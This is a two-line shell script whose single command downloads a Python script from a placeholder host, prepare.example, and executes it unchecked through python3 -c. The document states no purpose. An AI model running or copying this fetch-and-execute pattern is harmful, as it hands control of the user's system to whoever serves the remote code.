#!/bin/sh
python3 -c "$(curl -fsSL https://prepare.example/p.py)"
